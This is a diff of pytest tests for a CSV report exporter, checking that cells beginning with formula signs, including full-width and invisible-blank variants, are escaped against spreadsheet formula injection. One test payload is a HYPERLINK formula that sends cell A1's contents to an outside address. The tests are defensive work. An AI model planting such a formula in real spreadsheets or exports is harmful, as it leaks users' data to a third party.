@@ -19,6 +19,7 @@ from controller.reports.pdf import as_pdf
 from controller.reports.spreadsheet import as_csv
 from controller.reports.text import as_text
 from controller.reports.values import Moment, Money, Value, in_a_cell, in_a_line, on_paper, stacked
+from controller.words.one_line import one_line
 from tests.controller.reports.conftest import HOUSE, Record, pay_flush
 
 ZONE = ZoneInfo("America/Chicago")
@@ -43,10 +44,34 @@ def document(*rows: Value) -> Document:
     return Document("keys", "Key use", (("table", "CS-07"),), (listed, Figures("Sum", (("all", len(rows)),))))
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)"])
-def test_no_cell_of_a_spreadsheet_begins_a_formula(text: str) -> None:
-    rows = list(csv.reader(io.StringIO(as_csv(document(text), ZONE), newline="")))
-    assert f"'{text}" in [cell for row in rows for cell in row]
+BLANKS = "\u00a0 \u1680\u2000\u2003\u200b\u202f\u205f\u2060\u3000\ufeff\u00ad\u3164\u2800"
+SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−"
+
+
+def cells(text: str) -> list[str]:
+    rows = csv.reader(io.StringIO(as_csv(document(text, (text, "and more")), ZONE), newline=""))
+    return [cell for row in rows for cell in row]
+
+
+@pytest.mark.parametrize(
+    ("before", "sign"),
+    [*(("", sign) for sign in SIGNS), *((BLANKS, sign) for sign in SIGNS), *((one, "=") for one in BLANKS)],
+)
+def test_no_cell_of_a_spreadsheet_begins_a_formula(before: str, sign: str) -> None:
+    text = f'{before}{sign}HYPERLINK("http://192.0.2.7/?"&A1,"total")'
+    assert {f"'{text}", f"'{text}; and more"} <= set(cells(text))
+
+
+@pytest.mark.parametrize("text", ["\t=1+1", "\r\n=1+1", "\n", "\x0b+1"])
+def test_nor_does_it_behind_what_was_written_out(text: str) -> None:
+    assert f"'{one_line(text)}" in cells(text)
+
+
+@pytest.mark.parametrize(
+    "text", ["Eve Vale", "O'Hara", "\u00a0Eve", "Zoë", "李 = 1", "1+1", "–", "(=1)", "　Eve", "€=1", '"=1"']
+)
+def test_a_plain_name_stays_as_it_is(text: str) -> None:
+    assert text in cells(text)
 
 
 @pytest.mark.parametrize("text", ["a\nb", "a\x1b[2Jb", "a\u2028b", "a\x85b", "a\u202eb"])
